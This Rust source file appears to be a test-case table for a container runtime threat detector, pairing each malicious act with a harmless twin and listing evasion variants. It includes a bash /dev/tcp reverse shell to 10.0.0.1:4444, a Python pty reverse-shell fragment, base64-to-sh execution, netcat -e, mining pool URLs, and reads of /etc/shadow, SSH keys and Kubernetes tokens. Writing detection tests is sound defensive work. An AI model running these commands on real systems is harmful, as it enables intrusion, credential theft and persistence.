//! What is done, and what looks like it and is harmless. Words go to `act.c`, options to `docker run`.

pub(super) struct Act {
    /// What it raises; several with `+` between, in their order.
    pub(super) id: &'static str,
    /// Options of the container.
    pub(super) options: &'static [&'static str],
    pub(super) bad: &'static [&'static str],
    pub(super) twin: &'static [&'static str],
}

impl Act {
    pub(super) fn ids(&self) -> impl Iterator<Item = &'static str> {
        self.id.split('+')
    }

    /// The container of the twin has the same options, but for rules that are about those alone.
    pub(super) fn options_of_twin(&self) -> &'static [&'static str] {
        match self.id {
            "RT-0001" | "RT-0015" | "RT-0016" => &[],
            _ => self.options,
        }
    }
}

pub(super) const fn act(
    id: &'static str,
    options: &'static [&'static str],
    bad: &'static [&'static str],
    twin: &'static [&'static str],
) -> Act {
    Act {
        id,
        options,
        bad,
        twin,
    }
}

pub(super) const NONE: &[&str] = &[];
pub(super) const FREE: &[&str] = &["--security-opt", "seccomp=unconfined"];
pub(super) const ADMIN: &[&str] = &["--cap-add", "SYS_ADMIN"];
pub(super) const PEER: &[&str] = &["--network", "none"];
pub(super) const NET: &[&str] = &["--network", "none", "--cap-add", "NET_ADMIN"];
/// A library goes before the code of each program of the image.
const PRELOADED: &[&str] = &["--network", "none", "--env", "LD_PRELOAD=/opt/x.so"];

pub(super) const ACTS: &[Act] = &[
    act(
        "RT-0001",
        &["--tty"],
        &["/bin/sh", "-i"],
        &["/bin/sh", "-c", "x"],
    ),
    act(
        "RT-0002",
        PEER,
        &["/act", "stream", "0"],
        &["/act", "stream", "9"],
    ),
    act(
        "RT-0003",
        NONE,
        &["/act", "copy-run", "/act", "/new"],
        &["/act", "run", "/bin/prog"],
    ),
    act(
        "RT-0004",
        NONE,
        &["/act", "memory"],
        &["/act", "run", "/bin/prog"],
    ),
    act(
        "RT-0005",
        NONE,
        &["/usr/bin/apt", "install", "x"],
        &["/bin/prog", "install", "x"],
    ),
    act(
        "RT-0006",
        NONE,
        &["/bin/prog", "-o", "stratum+tcp://pool:3333"],
        &["/bin/prog", "-o", "tcp://pool:3333"],
    ),
    act(
        "RT-0007",
        NONE,
        &["/usr/bin/nmap", "-sS"],
        &["/bin/prog", "-sS"],
    ),
    act(
        "RT-0008",
        NONE,
        &["/bin/busybox", "nc", "-lp", "1", "-e", "x"],
        &["/bin/busybox", "sort", "-e"],
    ),
    act("RT-0009", NONE, &["/tmp/prog"], &["/bin/prog"]),
    act("RT-0010", NONE, &["/opt/.x/prog"], &["/opt/x/prog"]),
    act(
        "RT-0011",
        NONE,
        &["/bin/sh", "-c", "echo eA== | base64 -d | sh"],
        &["/bin/sh", "-c", "echo eA== | base64"],
    ),
    act(
        "RT-0012",
        NONE,
        &[
            "/usr/bin/python3",
            "-c",
            "import socket,os,pty; os.dup2(s.fileno(),0)",
        ],
        &[
            "/usr/bin/python3",
            "-c",
            "import socket; socket.create_server()",
        ],
    ),
    act(
        "RT-0013",
        NONE,
        &["/usr/bin/kubectl", "get", "pods"],
        &["/bin/prog", "get", "pods"],
    ),
    act(
        "RT-0014",
        NONE,
        &["/usr/sbin/sshd", "-D"],
        &["/bin/prog", "-D"],
    ),
    act("RT-0015", &["--privileged"], &["/bin/prog"], &["/bin/prog"]),
    act(
        "RT-0016",
        &["--volume", "/etc:/host/etc:ro"],
        &["/bin/prog"],
        &["/bin/prog"],
    ),
    act(
        "RT-0017",
        NONE,
        &["/act", "read", "/etc/../etc/shadow"],
        &["/act", "read", "/etc/hostname"],
    ),
    act(
        "RT-0018",
        NONE,
        &["/act", "read", "/root/.ssh/id_ed25519"],
        &["/act", "read", "/root/.ssh/id_ed25519.pub"],
    ),
    act(
        "RT-0019",
        NONE,
        &["/act", "write", "/etc/passwd"],
        &["/act", "read", "/etc/passwd"],
    ),
    act(
        "RT-0020",
        NONE,
        &["/act", "write", "/root/.ssh/authorized_keys"],
        &["/act", "write", "/root/.ssh/known_hosts"],
    ),
    act(
        "RT-0021",
        NONE,
        &["/act", "write", "/etc/cron.d/x"],
        &["/act", "read", "/etc/cron.d/y"],
    ),
    act(
        "RT-0022",
        NONE,
        &["/act", "write", "/etc/ld.so.preload"],
        &["/act", "write", "/etc/motd"],
    ),
    act(
        "RT-0023",
        NONE,
        &["/act", "write", "/bin/prog"],
        &["/act", "write", "/opt/x/prog"],
    ),
    act(
        "RT-0024",
        NONE,
        &["/act", "rename", "/opt/x/prog", "/usr/bin/ls"],
        &["/act", "rename", "/opt/x/prog", "/opt/x/ls"],
    ),
    act(
        "RT-0025",
        NONE,
        &["/act", "chmod", "4755", "/opt/x/prog"],
        &["/act", "chmod", "0755", "/opt/x/prog"],
    ),
    act(
        "RT-0026",
        NONE,
        &["/act", "symlink", "/etc/shadow", "/opt/x/s"],
        &["/act", "symlink", "/etc/hostname", "/opt/x/s"],
    ),
    act(
        "RT-0027",
        NONE,
        &["/act", "unlink", "/root/.bash_history"],
        &["/act", "unlink", "/opt/x/prog"],
    ),
    act(
        "RT-0028",
        NONE,
        &["/ways", "of-parent", "environ"],
        &["/act", "read", "/proc/self/environ"],
    ),
    act(
        "RT-0029",
        NONE,
        &["/ways", "of-parent", "mem"],
        &["/act", "read", "/proc/1/maps"],
    ),
    act(
        "RT-0030",
        NONE,
        &[
            "/bin/cat",
            "/var/run/secrets/kubernetes.io/serviceaccount/token",
        ],
        &[
            "/act",
            "read",
            "/var/run/secrets/kubernetes.io/serviceaccount/token",
        ],
    ),
    act(
        "RT-0031",
        NONE,
        &["/act", "unix", "/run/docker.sock"],
        &["/act", "unix", "/run/other.sock"],
    ),
    act(
        "RT-0032",
        NONE,
        &["/act", "write", "/opt/x/release_agent"],
        &["/act", "write", "/opt/x/agent"],
    ),
    act(
        "RT-0033",
        &["--security-opt", "systempaths=unconfined"],
        &["/act", "write", "/proc/sys/kernel/printk"],
        &["/act", "read", "/proc/sys/kernel/ostype"],
    ),
    act(
        "RT-0034",
        &["--device", "/dev/loop0"],
        &["/act", "read", "/dev/loop0"],
        &["/act", "read", "/dev/null"],
    ),
    act(
        "RT-0035",
        NONE,
        &["/act", "read", "/proc/1/root/etc/hostname"],
        &["/act", "read", "/proc/self/status"],
    ),
    act(
        "RT-0036",
        ADMIN,
        &["/act", "mount", "/opt"],
        &["/act", "nothing"],
    ),
    act(
        "RT-0037",
        ADMIN,
        &["/act", "setns", "/proc/self/ns/uts"],
        &["/act", "read", "/proc/self/ns/uts"],
    ),
    act(
        "RT-0038",
        FREE,
        &["/act", "unshare", "0x10000000"],
        &["/act", "unshare", "0x400"],
    ),
    act(
        "RT-0039",
        NONE,
        &["/act", "chroot", "/opt"],
        &["/act", "nothing"],
    ),
    act("RT-0040", NONE, &["/act", "module"], &["/act", "nothing"]),
    act("RT-0041", NONE, &["/act", "bpf"], &["/act", "nothing"]),
    act(
        "RT-0042",
        NONE,
        &["/act", "userfault"],
        &["/act", "nothing"],
    ),
    act(
        "RT-0043",
        FREE,
        &["/act", "ring"],
        &["/act", "ring-refused"],
    ),
    act("RT-0044", NONE, &["/act", "attach"], &["/act", "nothing"]),
    act(
        "RT-0046",
        NET,
        &["/act", "connect", "169.254.169.254", "80"],
        &["/act", "connect", "127.0.0.1", "80"],
    ),
    act(
        "RT-0047",
        PEER,
        &["/act", "connect", "127.0.0.1", "2375"],
        &["/act", "connect", "127.0.0.1", "8080"],
    ),
    act(
        "RT-0048",
        NONE,
        &["/act", "packets"],
        &["/act", "connect", "127.0.0.1", "8080"],
    ),
    act(
        "RT-0049",
        NET,
        &["/act", "connect", "203.0.113.9", "3333"],
        &["/act", "connect", "10.9.9.9", "3333"],
    ),
    // Ways around those who compare names, paths and calls.
    act(
        "RT-0001",
        &["--tty"],
        &["/bin/odd", "-i"],
        &["/bin/odd", "-c", "x"],
    ),
    act(
        "RT-0002",
        PEER,
        &["/act", "stream-fcntl", "0"],
        &["/act", "stream-fcntl", "9"],
    ),
    act(
        "RT-0004",
        NONE,
        &["/act", "memory-as", "runc"],
        &["/act", "run", "/bin/prog"],
    ),
    act(
        "RT-0004",
        NONE,
        &["/act", "memory-as", "runc:[2:INIT]"],
        &["/act", "run", "/bin/prog"],
    ),
    act(
        "RT-0009",
        NONE,
        &["/act", "run", "/tmp/script"],
        &["/act", "run", "/bin/prog"],
    ),
    act(
        "RT-0017",
        NONE,
        &["/act", "read-as", "sshd", "/etc/shadow"],
        &["/act", "read-as", "sshd", "/etc/hostname"],
    ),
    act(
        "RT-0017",
        &["--ulimit", "nofile=8192:8192"],
        &[
            "/act",
            "among-many",
            "/root/.ssh/id_ed25519.pub",
            "/etc/shadow",
        ],
        &[
            "/act",
            "among-many",
            "/root/.ssh/id_ed25519.pub",
            "/etc/hostname",
        ],
    ),
    act(
        "RT-0019",
        NONE,
        &["/act", "rename", "/opt/x/prog", "/etc/passwd"],
        &["/act", "rename", "/opt/x/prog", "/etc/passwds"],
    ),
    act(
        "RT-0020",
        NONE,
        &["/act", "link", "/opt/x/prog", "/root/.ssh/authorized_keys"],
        &["/act", "link", "/opt/x/prog", "/root/.ssh/known_hosts"],
    ),
    act(
        "RT-0021",
        NONE,
        &["/act", "symlink", "/opt/x/prog", "/etc/cron.d/z"],
        &["/act", "symlink", "/opt/x/prog", "/etc/z"],
    ),
    act(
        "RT-0022",
        NONE,
        &["/act", "rename", "/opt/x/prog", "/etc/ld.so.preload"],
        &["/act", "rename", "/opt/x/prog", "/etc/ld.so"],
    ),
    act(
        "RT-0022",
        NONE,
        &["/act", "creat", "/etc/ld.so.preload"],
        &["/act", "creat", "/etc/ld.so"],
    ),
    act(
        "RT-0024",
        NONE,
        &["/act", "rename-in", "/opt/x/prog", "/usr/bin"],
        &["/act", "rename-in", "/opt/x/prog", "/opt"],
    ),
    act(
        "RT-0025",
        FREE,
        &["/act", "chmod-new", "4755", "/opt/x/prog"],
        &["/act", "chmod-new", "0755", "/opt/x/prog"],
    ),
    act(
        "RT-0026",
        NONE,
        &["/act", "link-in", "/etc", "/opt/x/s"],
        &["/act", "link", "/opt/x/prog", "/opt/x/s"],
    ),
    act(
        "RT-0031",
        NONE,
        &["/act", "unix-renamed", "/run/docker.sock", "/opt/x/s"],
        &["/act", "unix-renamed", "/run/other.sock", "/opt/x/s"],
    ),
    act(
        "RT-0035",
        ADMIN,
        &["/act", "elsewhere", "root/etc/motd", "0x20000"],
        &["/act", "elsewhere", "root/etc/motd", "0x400"],
    ),
    act(
        "RT-0036",
        ADMIN,
        &["/act", "mount-new", "/opt"],
        &["/act", "nothing"],
    ),
    act(
        "RT-0044",
        &["--cap-add", "SYS_PTRACE"],
        &["/act", "look-into"],
        &["/act", "nothing"],
    ),
    act(
        "RT-0047",
        PEER,
        &["/act", "connect-old", "127.0.0.1", "2375"],
        &["/act", "connect-old", "127.0.0.1", "8080"],
    ),
    act(
        "RT-0110",
        PEER,
        &["/act", "shell-on-connection", "/bin/sh"],
        &["/act", "shell-on-connection", "/bin/prog"],
    ),
    act(
        "RT-0111",
        NONE,
        &["/act", "disk", "/opt/x/disk"],
        &["/act", "fifo", "/opt/x/disk"],
    ),
    act(
        "RT-0112",
        NONE,
        &["/lib64/ld-linux-x86-64.so.2", "/opt/x/prog"],
        &["/lib64/ld-linux-x86-64.so.2", "--list", "/opt/x/prog"],
    ),
    act(
        "RT-0113",
        &[
            "--cap-add",
            "DAC_READ_SEARCH",
            "--security-opt",
            "seccomp=unconfined",
        ],
        &["/act", "handle", "/etc/hostname"],
        &["/act", "read", "/etc/hostname"],
    ),
    act(
        "RT-0015",
        &["--privileged", "--pid", "host"],
        &["/bin/prog"],
        &["/bin/prog"],
    ),
    act(
        "RT-0016",
        &["--pid", "host", "--volume", "/run:/host/run:ro"],
        &["/bin/prog"],
        &["/bin/prog"],
    ),
    // What is ordinary, and what only looks like it.
    act(
        "RT-0002",
        PEER,
        &["/act", "stream", "0"],
        &["/usr/lib/git-core/git-daemon", "act", "stream", "0"],
    ),
    act(
        "RT-0002",
        PRELOADED,
        &["/usr/lib/git-core/git-daemon", "act", "stream", "0"],
        &["/act", "listen-input"],
    ),
    act(
        "RT-0002",
        PEER,
        &["/act", "stream", "0"],
        &["/act", "stream", "1"],
    ),
    act(
        "RT-0003+RT-0009",
        &["--tmpfs", "/run:exec"],
        &["/act", "copy-run", "/act", "/run/x"],
        &["/act", "run", "/bin/prog"],
    ),
    // A volume is where many have their code.
    act(
        "RT-0003",
        &["--tmpfs", "/srv:exec", "--volume", "/opt/v"],
        &["/act", "copy-run", "/act", "/srv/x"],
        &["/act", "copy-run", "/act", "/opt/v/x"],
    ),
    act("RT-0010", NONE, &["/opt/.x/prog"], &["/opt/.venv/bin/prog"]),
    act(
        "RT-0011",
        NONE,
        &["/bin/sh", "-c", "eval \"$(echo eA== | base64 -d)\""],
        &["/bin/sh", "-c", "echo \"$KEY\" | base64 -d > /opt/key"],
    ),
    act(
        "RT-0012",
        NONE,
        &["/bin/sh", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
        &["/bin/sh", "-c", "until echo > /dev/tcp/db/5432; do :; done"],
    ),
    act(
        "RT-0012",
        &[
            "--health-cmd",
            "exec 3<>/dev/tcp/127.0.0.1/80; cat <&3",
            "--health-interval",
            "1s",
        ],
        &["/bin/sh", "-c", "exec 3<>/dev/tcp/10.0.0.1/80; sh <&3"],
        &["/act", "wait", "3"],
    ),
    act(
        "RT-0017",
        NONE,
        &["/act", "read", "/etc/shadow"],
        &["/usr/sbin/cron", "act", "read", "/etc/shadow"],
    ),
    act(
        "RT-0017",
        PRELOADED,
        &["/usr/sbin/cron", "act", "read", "/etc/shadow"],
        &["/usr/sbin/cron", "act", "read", "/etc/hostname"],
    ),
    act(
        "RT-0003+RT-0017",
        &["--tmpfs", "/mnt:exec"],
        &[
            "/act",
            "copy-run",
            "/act",
            "/mnt/cron",
            "act",
            "read",
            "/etc/shadow",
        ],
        &["/usr/sbin/cron", "act", "read", "/etc/shadow"],
    ),
    act(
        "RT-0018",
        NONE,
        &["/act", "read", "/root/.ssh/id_ed25519"],
        &["/usr/bin/ssh", "act", "read", "/root/.ssh/id_ed25519"],
    ),
    act(
        "RT-0019",
        NONE,
        &[
            "/usr/sbin/useradd",
            "act",
            "rename",
            "/opt/x/prog",
            "/etc/passwd",
        ],
        &["/usr/sbin/useradd", "act", "write", "/etc/passwd"],
    ),
    act(
        "RT-0021",
        NONE,
        &["/act", "write", "/etc/logrotate.d/x"],
        &["/act", "read", "/etc/logrotate.d/keep"],
    ),
    act(
        "RT-0025",
        NONE,
        &["/act", "chmod", "2755", "/opt/x/prog"],
        &["/act", "folder-bits", "2775", "/opt/shared"],
    ),
    act(
        "RT-0027",
        NONE,
        &["/act", "truncate", "/root/.bash_history"],
        &["/bin/sh", "act", "truncate", "/root/.bash_history"],
    ),
    act(
        "RT-0027",
        NONE,
        &["/act", "symlink", "/dev/null", "/root/.zsh_history"],
        &["/act", "touch", "/var/log/btmp"],
    ),
    act(
        "RT-0039",
        NONE,
        &["/act", "chroot", "/opt"],
        &["/usr/sbin/haproxy", "act", "chroot", "/opt"],
    ),
    act(
        "RT-0114",
        NONE,
        &["/usr/sbin/nginx", "act", "spawn", "/bin/sh", "-c", "id"],
        &["/usr/sbin/nginx", "act", "spawn", "/bin/prog"],
    ),
    act(
        "RT-0114",
        NONE,
        &[
            "/usr/sbin/apache2",
            "act",
            "spawn",
            "/bin/sh",
            "-c",
            "id; /usr/sbin/sendmail -t",
        ],
        &[
            "/usr/sbin/apache2",
            "act",
            "spawn",
            "/bin/sh",
            "-c",
            "/usr/sbin/sendmail -t",
        ],
    ),
    act(
        "RT-0115",
        NONE,
        &["/bin/sh", "-i"],
        &["/bin/sh", "-c", "-i"],
    ),
];
